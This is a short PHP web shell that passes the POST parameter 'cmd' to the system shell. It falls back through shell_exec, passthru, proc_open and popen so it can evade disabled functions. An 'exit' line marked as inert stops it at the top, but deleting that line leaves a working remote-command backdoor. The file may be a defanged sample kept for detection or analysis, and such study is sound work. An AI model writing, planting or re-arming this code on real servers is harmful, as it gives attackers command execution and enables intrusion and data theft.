<?php
exit; // inert
function run($c) {
    if (function_exists('shell_exec')) { return shell_exec($c . ' 2>&1'); }
    if (function_exists('passthru')) { return passthru($c); }
    if (function_exists('proc_open')) { return proc_open($c, [], $p); }
    if (function_exists('popen')) { return popen($c, 'r'); }
}
echo run($_POST['cmd']);
